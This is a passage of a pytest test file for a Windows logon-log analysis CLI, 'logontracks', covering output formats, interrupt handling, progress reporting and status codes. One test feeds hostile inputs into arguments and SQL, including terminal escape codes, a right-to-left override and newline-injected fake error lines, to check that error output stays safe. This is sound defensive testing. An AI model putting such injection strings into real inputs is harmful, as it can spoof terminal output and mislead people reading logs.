    expected = HOSTILE["TargetUserName"], HOSTILE["TargetDomainName"], HOSTILE["SubjectUserName"], HOST
    columns = "target_name", "target_domain", "subject_name", "computer"
    if form == "jsonl":
        assert [tuple(row[name] for name in columns) for row in done.rows] == [expected] * 3
    elif form == "parquet":
        table = parquet.read_table(io.BytesIO(done.out))
        assert list(zip(*(table[name].to_pylist() for name in columns), strict=True)) == [expected] * 3


def test_hostile_names_in_errors_do_no_harm(hostile, capsysbinary):
    for wrong in (
        ("events", "--tz", "\x1b[31m\u202e"),
        ("events", "--since", "\x1b[31m\u202e"),
        ("events", "--event", "\x1b[31m\u202e"),
        ("sql", "SELECT '\x1b[31m\u202e' FROM \"\x1b[31m\u202e\""),
        ("sql", "SELECT error(target_name || subject_name || subject_domain) FROM events"),
        ("sql", "SELECT CAST(subject_name AS INTEGER) FROM events"),
        ("info", "--case", "\x1b[31m\u202e"),
        ("ingest", "\x1b[31m\u202e"),
        ("ingest", "no\nError: log"),
        ("ingest", "--no\nError: log"),
        ("info", "--case", "no\nError: case"),
        ("events", "\x1b[31m\u202e"),
        ("\x1b[31m\u202e",),
        ("events", "--format", "\x1b[31m\u202e"),
        ("events", "--limit", "\x1b[31m\u202e"),
    ):
        done = here(capsysbinary, *wrong, *(() if "--case" in wrong or wrong[0][0] == "\x1b" else ("--case", hostile)))
        assert done.code in {2, 3, 5}, (wrong, done.said)
        assert done.out == b""
        assert_harmless(done.said.encode(), "table")
        assert "Traceback" not in done.said
        assert not re.search(r"^\s*Error: (log|case)", done.said, re.MULTILINE), "a name made a line of its own"


# Being interrupted


@no_windows
@pytest.mark.parametrize("form", FORMATS)
def test_a_reader_that_goes_away_is_no_error(firm, form):
    for command in (
        ("events", "--limit", "0"),
        ("sql", "SELECT a.* FROM events AS a, range(1000)", "--limit", "0" if form != "table" else "5000"),
        ("info",),
    ):
        process = subprocess.Popen(
            [sys.executable, "-m", "logontracks", *command, "--case", firm.case, "--format", form],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        )
        assert process.stdout
        assert process.stderr
        process.stdout.read(10)
        process.stdout.close()
        said = process.stderr.read().decode()
        process.stderr.close()
        assert process.wait(60) == 0
        assert "Traceback" not in said
        assert "nanobind" not in said
        assert "Broken" not in said


def interrupt(arguments: list[object], ready: Callable[[], bool]) -> tuple[int, str]:
    """Press Ctrl-C, which reaches every process of the group, when it is `ready`; exit code and stderr."""
    process = subprocess.Popen(
        [sys.executable, "-m", "logontracks", *map(str, arguments)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        env=environment(),
        start_new_session=True,
    )
    until = time.monotonic() + 30
    while not ready():
        assert process.poll() is None, "it ended too early"
        assert time.monotonic() < until
        time.sleep(0.005)
    os.killpg(process.pid, signal.SIGINT)
    _, said = process.communicate(timeout=30)
    return process.returncode, said.decode()


@no_windows
def test_ctrl_c_during_an_ingest_leaves_the_case_as_it_was(firm, one_log, tmp_path):
    case = tmp_path / "case"
    assert run("ingest", one_log, "--case", case).code == 0
    before = digest(case), {path for path in case.rglob("*") if path.is_file()}
    for place in (".staging/*", ".staging/*/workers.log", ".staging/*/events-*.arrow"):
        code, said = interrupt(["ingest", firm.logs, "--case", case], lambda place=place: any(case.glob(place)))
        assert code == 130, said
        assert said.splitlines()[-1] == "Interrupted."
        assert "Traceback" not in said
        assert not (case / ".staging").exists()
        assert (digest(case), {path for path in case.rglob("*") if path.is_file()}) == before
    assert run("ingest", firm.logs, "--case", case).code == 0
    assert digest(case) == digest(firm.case)


@no_windows
def test_ctrl_c_during_the_first_ingest_leaves_nothing_in_the_way(firm, tmp_path):
    case = tmp_path / "case"
    code, said = interrupt(["ingest", firm.logs, "--case", case], lambda: any(case.glob(".staging/*/workers.log")))
    assert code == 130, said
    is_error(run("info", "--case", case), 5)
    assert run("ingest", firm.logs / "DC01", "--case", case).code == 0


@no_windows
@pytest.mark.parametrize(
    "query",
    [
        "SELECT COUNT(*) FROM range(1000000000000)",
        "SELECT * FROM range(1000000000000)",
        "WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n) SELECT MAX(i) FROM n",
    ],
)
def test_ctrl_c_during_a_query_ends_it_at_once(firm, query):
    began = time.monotonic()
    code, said = interrupt(["sql", query, "--case", firm.case, "--format", "csv"], lambda: time.monotonic() - began > 2)
    assert (code, said.strip()) == (130, "Interrupted.")
    assert time.monotonic() - began < 10


def test_long_work_is_told_of_in_lines(firm, monkeypatch, capsys):
    """Off a terminal, a line every 10 seconds; here with a clock that runs fast."""
    from logontracks.cli import watching

    now = [0.0]

    def clock() -> float:
        now[0] += 6
        return now[0]

    monkeypatch.setattr("logontracks.progress.time.monotonic", clock)
    with watching.watching() as watcher:
        watcher.start(100_000_000, 10)
        watcher.phase("reading")
        for _ in range(5):
            watcher.advance(10_000_000, 1000)
    told = capsys.readouterr()
    assert told.out == ""
    assert 2 <= len(told.err.splitlines()) <= 5
    assert "reading: " in told.err


def test_every_table_of_a_case_can_be_asked(firm):
    for name in (*TABLES, "sources"):
        (row,) = run("sql", f"SELECT COUNT(*) AS n FROM {name}", "--case", firm.case, "--format", "jsonl").rows
        assert row["n"] > 0 or name in {"problems", "given_addresses"}
        assert name in run("sql", "--help").text


def test_a_time_is_that_of_the_record(firm):
    """The same instants in a table, in JSON and in the zone of the reader."""
    (row,) = run("events", "--case", firm.case, "--event", "1102", "--format", "jsonl").rows
    when = moment(row["time"])
    line = run("events", "--case", firm.case, "--event", "1102", "--tz", "Asia/Kolkata").text.splitlines()[2]
    assert line.startswith(f"{when + timedelta(hours=5, minutes=30):%Y-%m-%d %H:%M:%S}")


# Lists for people


def test_services_that_run_on_are_one_row(firm, capsysbinary):
    """svc-app was started each night, and no record tells an end."""
    done = here(capsysbinary, "now", "--case", firm.case)
    (line,) = (line for line in done.text.splitlines() if "svc-app" in line)
    assert re.search(r"service, admin, 7 sessions +APP01 +2026-10-05 03:30:00 +2026-10-11 03:30:00$", line)
    each = here(capsysbinary, "now", "--all", "--user", "svc-app", "--case", firm.case).text
    assert each.count("LARCH\\svc-app") == 7


def test_a_session_that_may_have_ended_in_a_gap_is_possible(firm):
    """Records of APP01 are missing later on that day: no end of a service is in the log, and one may be lost."""
    late = run("host", "APP01", "--at", "2026-10-11T12:00", "--all", "--format", "jsonl", "--case", firm.case).rows
    sure = {row["start_time"][:10]: row["certainty"] for row in late if row["name"] == "svc-app"}
    assert sure["2026-10-11"] == "certain"
    assert sure["2026-10-05"] == "possible"


def test_one_is_one_and_none_is_nothing_to_tell(firm, capsysbinary):
    first = ("--protocol", "ticket_granting", "--until", "2026-10-05T00:01:30")
    one = here(capsysbinary, "authentications", *first, "--case", firm.case)
    assert re.search(r"^1 authentication of computers and managed services left out", one.said, re.MULTILINE)
    none = here(capsysbinary, "accounts", "svc-app", "--case", firm.case)
    assert none.said == ""


def test_a_host_without_a_log_is_told_from_one_that_nobody_knows(firm, tmp_path, capsysbinary):
    case = tmp_path / "case"
    here(capsysbinary, "ingest", firm.logs / "DC02" / "Security.evtx", "--case", case, "--jobs", 1)
    known = here(capsysbinary, "host", "WKS-101", "--case", case)
    is_error(known, 2)
    assert "its own are not here" in known.said
    assert "its own are not here" not in here(capsysbinary, "host", "WKS-999", "--case", case).said


def test_evidence_of_a_start_is_a_list(firm, capsysbinary):
    assert "audit start, boot type, hint" in here(capsysbinary, "boots", "FS01", "--case", firm.case).text


# Codes


@pytest.mark.parametrize("code", ["-1073741718", "3221225578", "0xC000006A", "0xc000006a"])
def test_a_code_in_any_spelling(code, capsysbinary):
    """Old logs have signed numbers, and users paste them as they are."""
    for line in ((code,), ("--format", "csv", code), (code, "--format", "csv"), ("--", code)):
        assert b"STATUS_WRONG_PASSWORD" in here(capsysbinary, "code", *line).out


def test_a_small_number_is_no_position_in_a_record():
    tables = {row["table"] for row in run("code", "2", "--format", "jsonl").rows}
    assert {"logon_types", "kerberos_codes"} <= tables
    assert not tables & {"shutdown_1074", "session_names", "special_accounts", "classic_strings"}
